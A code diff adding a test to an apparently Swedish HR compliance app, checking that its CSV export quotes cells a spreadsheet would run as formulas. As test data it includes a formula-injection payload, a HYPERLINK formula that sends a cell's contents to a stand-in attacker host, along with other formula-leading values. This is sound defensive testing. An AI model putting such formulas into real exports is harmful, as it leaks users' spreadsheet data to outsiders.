@@ -3,6 +3,8 @@ the language switch, and HR's compliance report with its CSV tables."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from datetime import timedelta
 
@@ -188,6 +190,27 @@ def test_compliance_report_and_csv(
     assert added.status_code == 201
     changes = client.get("/api/v1/reports/compliance", headers=hr.headers).json()["policy_changes"]
     assert [(c["policy"], c["version"]) for c in changes] == [("Akutvård", 1)]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(
+    client: TestClient, make: Factory, clock: ManualClock
+) -> None:
+    """A policy named "=HYPERLINK(...)" must not become a live formula in HR's spreadsheet."""
+    hr = make.actor(roles=["hr"])
+    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Öppna")', "+1+1", "-2+3", "@SUM(A1)", "Akut"]
+    for n, name in enumerate(hostile):
+        added = client.post(
+            "/api/v1/policies",
+            json={"name": name, "effective_from": clock.now().isoformat(), "approval_note": f"-{n}"},
+            headers=hr.headers,
+        )
+        assert added.status_code == 201, added.text
+    table = client.get("/api/v1/reports/compliance/policy-changes.csv", headers=hr.headers).text
+    rows = list(csv.reader(io.StringIO(table)))[1:]
+    names = sorted(row[0] for row in rows)
+    assert names == sorted(["'" + name for name in hostile[:-1]] + ["Akut"])
+    assert all(row[4].startswith("'-") for row in rows), "approval notes too"
+    assert all(row[1].isdigit() for row in rows), "numbers stay numbers"
 
 
 def test_a_login_form_posted_from_elsewhere_is_refused(client: TestClient, make: Factory) -> None:
